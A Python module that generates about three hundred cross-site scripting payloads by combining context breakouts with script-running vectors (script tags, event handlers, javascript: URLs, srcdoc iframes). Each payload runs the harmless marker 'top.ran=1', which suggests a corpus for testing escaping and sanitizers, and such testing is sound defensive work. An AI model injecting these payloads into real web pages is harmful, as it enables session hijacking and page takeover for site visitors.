"""Three hundred texts that would run a script if a page showed one of them unescaped: ways out × ways to run."""

import itertools

RUN = "top.ran=1"
WAYS_OUT = [
    "", '">', "'>", "</script>", "</title></textarea></style>", "--></noscript>", "]]>", "\u202e\u2066", "`${",
    "\\u003c/script>", "{{", "%22%3E",
]  # fmt: skip
WAYS_TO_RUN = [
    f"<script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" x="',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<body onload={RUN}>",
    f"<form><button formaction=javascript:{RUN} autofocus onfocus={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"constructor.constructor('{RUN}')()",
]
PAYLOADS = [out + run for out, run in itertools.product(WAYS_OUT, WAYS_TO_RUN)]
